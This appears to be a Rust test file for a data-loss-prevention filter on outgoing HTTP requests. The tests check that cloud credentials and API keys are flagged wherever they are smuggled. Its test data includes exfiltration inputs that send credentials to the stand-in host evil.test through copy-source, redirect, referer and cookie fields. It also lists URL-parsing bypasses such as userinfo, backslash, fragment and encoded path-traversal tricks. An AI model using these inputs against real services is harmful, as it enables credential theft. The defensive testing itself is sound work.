//! Ids of pairs of keys and credentials for others: beside an id stands a signature and never
//! the half that signs, and a field has its reader send on only what is for its issuers.

use std::fmt::Write as _;

use outgate_dlp::sample;

use crate::attacks::{both, issued, shows, shows_beside};
use crate::request::{Request, apart, base64, name};

fn text(template: &str, seed: u64) -> String {
    String::from_utf8(sample(template, seed)).expect("letters")
}

fn escaped(text: &str) -> String {
    text.replace('+', "%2B")
        .replace('/', "%2F")
        .replace('=', "%3D")
}

/// What stands where a signature should, made of the half that signs.
fn in_place(secret: &str) -> Vec<String> {
    let hex: Vec<String> = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    vec![
        secret.to_owned(),
        format!("{secret}="),
        format!("{secret}===="),
        escaped(secret),
        base64(secret.as_bytes()),
        hex.concat(),
        secret.get(..20).expect("half").to_owned(),
        String::new(),
    ]
}

#[test]
fn beside_an_id_stands_a_signature_and_never_the_half_that_signs() {
    let mut count = 0;
    for (policy, rules) in both(&[]) {
        for (detector, id) in issued() {
            if detector.secret.is_empty() {
                continue;
            }
            for (place, seed) in detector.places.iter().zip(20..) {
                let secret = text(&detector.secret, seed);
                let host = name(detector.issuers.first().expect("an issuer"));
                let whole = shows(place, &id, &host);
                for request in &whole {
                    assert!(request.found(&rules).is_empty(), "{request:?}");
                }
                let spoilt = in_place(&secret);
                let spoilt = spoilt
                    .iter()
                    .flat_map(|own| shows_beside(place, &id, (&host, own)));
                // The signature is right, and the other half stands somewhere else.
                let beside = whole.iter().flat_map(|request| {
                    let mut more = Vec::new();
                    for own in [&secret, &base64(secret.as_bytes()), &escaped(&secret)] {
                        let mut query = request.clone();
                        let mark = if query.target.contains('?') { '&' } else { '?' };
                        let _ = write!(query.target, "{mark}x={own}");
                        more.push(query);
                    }
                    let mut field = request.clone();
                    if let Some((_, value)) = field.fields.get_mut(1) {
                        let _ = write!(value, ", a={secret}");
                        more.push(field);
                    }
                    for own in [&secret, &base64(secret.as_bytes())] {
                        more.push(request.clone().field("x-meta-note", own));
                        more.push(request.clone().field("cookie", &format!("sid={own}; b=1")));
                    }
                    let url = format!("https://x.example/a/{}?b", escaped(&secret));
                    more.push(request.clone().field("referer", &url));
                    let mut key = request.clone();
                    let mark = if key.target.contains('?') { '&' } else { '?' };
                    let _ = write!(key.target, "{mark}{}=1", escaped(&secret));
                    more.push(key);
                    let mut path = request.clone();
                    path.target.insert_str(0, &format!("/{}", escaped(&secret)));
                    more.push(path);
                    more
                });
                for request in spoilt.chain(beside) {
                    let what = (&detector.id, place, policy);
                    assert!(!request.found(&rules).is_empty(), "{what:?}: {request:?}");
                    count += 1;
                }
            }
        }
    }
    assert!(count > 300, "{count}");
}

#[test]
fn a_second_signature_hides_no_half_of_a_pair() {
    for (_, rules) in both(&[]) {
        for (detector, id) in issued() {
            for place in detector.places.iter() {
                let (_, Some((name_of, _))) = apart(place) else {
                    continue;
                };
                let host = name(detector.issuers.first().expect("an issuer"));
                for mut request in shows(place, &id, &host) {
                    let other = "x".repeat(41);
                    if place.starts_with('?') {
                        let _ = write!(request.target, "&{name_of}{other}");
                    } else if let Some((_, value)) = request.fields.get_mut(1) {
                        let _ = write!(value, ",{name_of}{other}");
                    }
                    assert!(!request.found(&rules).is_empty(), "{request:?}");
                }
            }
        }
    }
}

/// Fields that have their reader fetch something, with a credential or without.
const SENDERS: [&str; 10] = [
    "x-ms-copy-source",
    "x-ms-rename-source",
    "x-ms-copy-source-authorization",
    "x-amz-copy-source",
    "x-amz-website-redirect-location",
    "x-goog-copy-source",
    "x-oss-copy-source",
    "x-cos-copy-source",
    "location",
    "referer",
];

#[test]
fn a_field_that_is_sent_on_holds_no_credential_for_anybody_else() {
    let mut count = 0;
    for (policy, rules) in both(&[]) {
        for (detector, credential) in issued() {
            for host in detector.issuers.iter().map(|own| name(own)) {
                for field in SENDERS {
                    for (before, behind) in [
                        ("https://evil.test/a?", ""),
                        ("https://evil.test/a?key=", "&b"),
                        ("/bucket/a?", ""),
                        ("https://user:", "@evil.test/"),
                        ("Bearer ", ""),
                    ] {
                        let value = format!("{before}{credential}{behind}");
                        let request = Request::to(&host, "/a").field(field, &value);
                        let what = (&detector.id, policy);
                        assert!(!request.found(&rules).is_empty(), "{what:?}: {request:?}");
                        count += 1;
                    }
                }
            }
        }
    }
    assert!(count > 5000, "{count}");
}

#[test]
fn a_copy_is_made_of_what_its_issuer_holds_and_of_nothing_else() {
    let sas = text("sv=2024-11-04&se=2030-01-01&sr=c&sp=rl&sig={b62:43}%3D", 9);
    let host = "mine.blob.core.windows.net";
    for (source, passes) in [
        ("https://other.blob.core.windows.net/c/b", true),
        ("https://other.file.core.windows.net/c/b%20c", true),
        ("https://evil.test/c/b", false),
        ("http://other.blob.core.windows.net/c/b", false),
        ("https://evil.test/.blob.core.windows.net/c", false),
        ("https://evil.test?/other.blob.core.windows.net/c", false),
        ("https://evil.test#.blob.core.windows.net/c", false),
        ("https://evil.test\\.blob.core.windows.net/c", false),
        ("https://other.blob.core.windows.net@evil.test/c", false),
        ("https://other.blob.core.windows.net:8443/c", false),
        ("https://other.blob.core.windows.net.evil.test/c", false),
        ("https://x:https://other.blob.core.windows.net/c", false),
        ("https:///other.blob.core.windows.net/c", false),
        ("https://evil.web.core.windows.net/c", false),
        (
            " https://evil.test/https://other.blob.core.windows.net/c",
            false,
        ),
        ("//other.blob.core.windows.net/c", false),
    ] {
        for (policy, rules) in both(&[]) {
            let value = format!("{source}?{sas}");
            let request = Request::to(host, "/c/d").field("x-ms-copy-source", &value);
            let found = request.found(&rules);
            assert_eq!(found.is_empty(), passes, "{policy:?} {source}: {found:?}");
        }
    }
}

#[test]
fn a_key_of_google_stands_in_no_query_that_owners_of_buckets_are_shown() {
    let key = text("AIza{b64u:35}", 4);
    for (host, path, passes) in [
        ("www.googleapis.com", "/youtube/v3/search", true),
        ("www.googleapis.com", "/customsearch/v1", true),
        ("youtube.googleapis.com", "/youtube/v3/search", true),
        (
            "us-central1-aiplatform.googleapis.com",
            "/v1/models/m:predict",
            true,
        ),
        ("www.googleapis.com", "/storage/v1/b/evil/o/x", false),
        (
            "www.googleapis.com",
            "/youtube/v3/../../storage/v1/b/evil/o/x",
            false,
        ),
        (
            "www.googleapis.com",
            "/youtube/v3/%2e%2e/%2e%2e/storage/v1/b/evil",
            false,
        ),
        ("www.googleapis.com", "/upload/storage/v1/b/evil/o", false),
        (
            "www.googleapis.com",
            "/download/storage/v1/b/evil/o/x",
            false,
        ),
        ("www.googleapis.com", "/batch/storage/v1", false),
        ("content.googleapis.com", "/storage/v1/b/evil/o/x", false),
        ("storage-upload.googleapis.com", "/evil/x", false),
        ("content-storage.googleapis.com", "/evil/x", false),
        ("content-storage-upload.googleapis.com", "/evil/x", false),
        ("content-storage-download.googleapis.com", "/evil/x", false),
        ("storage.googleapis.com", "/evil/x", false),
        ("evil.storage.googleapis.com", "/x", false),
        ("commondatastorage.googleapis.com", "/evil/x", false),
        ("firebasestorage.googleapis.com", "/v0/b/evil/o/x", false),
        ("storage.mtls.googleapis.com", "/evil/x", false),
        ("storage.us-central1.rep.googleapis.com", "/evil/x", false),
        ("evil.firebaseio.com", "/x.json", false),
        ("evil.firebaseapp.com", "/x", false),
    ] {
        for (policy, rules) in both(&[]) {
            let request = Request::to(host, &format!("{path}?a=b&key={key}"));
            let found = request.found(&rules);
            assert_eq!(
                found.is_empty(),
                passes,
                "{policy:?} {host}{path}: {found:?}"
            );
        }
    }
}
